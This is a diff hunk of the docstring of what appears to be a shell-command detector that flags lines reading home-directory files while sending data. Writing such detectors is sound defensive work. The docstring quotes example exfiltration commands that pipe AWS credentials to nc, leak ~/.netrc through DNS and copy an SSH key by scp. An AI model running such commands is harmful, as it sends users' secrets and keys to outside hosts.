@@ -5,7 +5,7 @@ bash's `/dev/tcp/HOST/PORT`), and the trees a pipeline carries through filters t
 A send is judged by what the same line reads: a file of the home read by a line that sends is how data leaves
 (`cat ~/.aws/credentials | nc host 9`, `dig $(base64 -w0 ~/.netrc).example`, `scp ~/.ssh/id_ed25519 host:`).
 The line's reads are known as effects; which of them reach the send through pipes, substitutions or variables is
-not followed, so a line that both reads a home's file and sends is judged as sending it (later_code.reaches_home).
+not followed, so a line that both reads a home's file and sends is judged as sending it (home_reach.reaches_home).
 """
 
 from __future__ import annotations
